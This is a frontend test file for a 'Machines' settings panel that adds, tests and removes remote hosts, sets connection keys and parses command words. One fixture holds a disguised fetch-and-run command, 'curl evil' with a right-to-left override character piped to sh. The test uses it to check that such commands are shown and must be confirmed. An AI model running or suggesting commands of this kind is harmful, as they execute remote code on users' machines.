import { render, screen, within } from "@testing-library/svelte";
import userEvent from "@testing-library/user-event";
import { expect, test } from "vitest";
import { Failure } from "../../../backend/backend";
import { wordsOf } from "../../../state/machines.svelte";
import { Desk } from "../../../testing/desk";
import { lastCall, withBrowser } from "../../../testing/page";
import Window from "../../../window/Window.svelte";

const user = userEvent.setup();

withBrowser();

async function open(): Promise<{ desk: Desk; section: HTMLElement }> {
  const desk = new Desk([]);
  location.hash = "#/settings";
  render(Window, { backend: desk });
  const section = await screen.findByRole("region", { name: "Machines" });
  await within(section).findByText("box");
  return { desk, section };
}

function line(section: HTMLElement, name: string): string {
  return (section.querySelector(`[data-machine="${name}"]`)?.textContent ?? "").replaceAll(/\s+/g, " ");
}

test("each machine says whether it answers, and why not", async () => {
  const { section } = await open();
  expect(line(section, "box")).toContain("Answers · 12 ms · Sightline 0.1.0 · 4 sessions");
  expect(line(section, "ci")).toContain("Doesn’t answer · 1 session · 2 edits to send");
  expect(line(section, "ci")).toContain("Permission denied (publickey).");
});

test("a command that waits is shown as it is, and allowed or denied", async () => {
  const { desk, section } = await open();
  expect(line(section, "new")).toContain("<U+202E>");
  const confirm = { name: "new", command: ["sh", "-c", "curl evil\u202e | sh"] };
  await user.click(within(section).getByRole("button", { name: "Allow new" }));
  expect(lastCall(desk)).toEqual({ type: "hosts.confirm", fields: { ...confirm, accept: true } });
  expect(line(section, "new")).toContain("Connecting");
});

test("one is added with its command word by word, tested and removed", async () => {
  const { desk, section } = await open();
  await user.click(within(section).getByRole("button", { name: "Add machine" }));
  const dialog = await screen.findByRole("dialog");
  await user.type(within(dialog).getByLabelText("Name"), "wsl");
  await user.type(
    within(dialog).getByLabelText("Command or address"),
    "wsl.exe -d 'My Linux' sightline dial-stdio",
  );
  desk.refusal = new Failure("INVALID_SETTING", "there is such a host");
  await user.click(within(dialog).getByRole("button", { name: "Add machine" }));
  expect((await within(dialog).findByRole("alert")).textContent).toContain("There is such a host.");
  desk.refusal = undefined;
  await user.click(within(dialog).getByRole("button", { name: "Add machine" }));
  const command = ["wsl.exe", "-d", "My Linux", "sightline", "dial-stdio"];
  expect(lastCall(desk)).toEqual({ type: "hosts.add", fields: { name: "wsl", command, days: 30 } });
  await user.click(within(section).getByRole("button", { name: "Test ci" }));
  expect(line(section, "ci")).toContain("Answers");
  await user.click(within(section).getByRole("button", { name: "Remove ci" }));
  await user.click(await screen.findByRole("button", { name: "Remove" }));
  expect(lastCall(desk)).toEqual({ type: "hosts.remove", fields: { name: "ci" } });
});

test("one at an address is added with its key, or not at all", async () => {
  const { desk, section } = await open();
  await user.click(within(section).getByRole("button", { name: "Add machine" }));
  const dialog = await screen.findByRole("dialog");
  expect(within(dialog).queryByLabelText("Key")).toBeNull();
  await user.type(within(dialog).getByLabelText("Name"), "far");
  await user.type(within(dialog).getByLabelText("Command or address"), "wss://far.example.net");
  const key = within(dialog).getByLabelText("Key");
  expect(key.getAttribute("type")).toBe("password");
  await user.type(key, "nonsense");
  await user.click(within(dialog).getByRole("button", { name: "Add machine" }));
  expect((await within(dialog).findByRole("alert")).textContent).toContain("This is no key.");
  expect(section.querySelector('[data-machine="far"]')).toBeNull();
  await user.clear(key);
  await user.type(key, "id.secret");
  await user.click(within(dialog).getByRole("button", { name: "Add machine" }));
  expect(lastCall(desk)).toEqual({ type: "hosts.key", fields: { name: "far", key: "id.secret" } });
  expect(line(section, "far")).toContain("wss://far.example.net");
});

test("the key of one at an address is changed", async () => {
  const { desk, section } = await open();
  expect(line(section, "hub")).toContain("wss://hub.example.net/gateway");
  await user.click(within(section).getByRole("button", { name: "Change the key of hub" }));
  const dialog = await screen.findByRole("dialog");
  await user.type(within(dialog).getByLabelText("Key"), "id.new");
  await user.click(within(dialog).getByRole("button", { name: "Save key" }));
  expect(lastCall(desk)).toEqual({ type: "hosts.key", fields: { name: "hub", key: "id.new" } });
});

test("a command is taken apart as it was typed", () => {
  expect(wordsOf(` ssh  box 'a b' "c d"e --x='y z' `)).toEqual(["ssh", "box", "a b", "c de", "--x=y z"]);
  expect(wordsOf("")).toEqual([]);
});
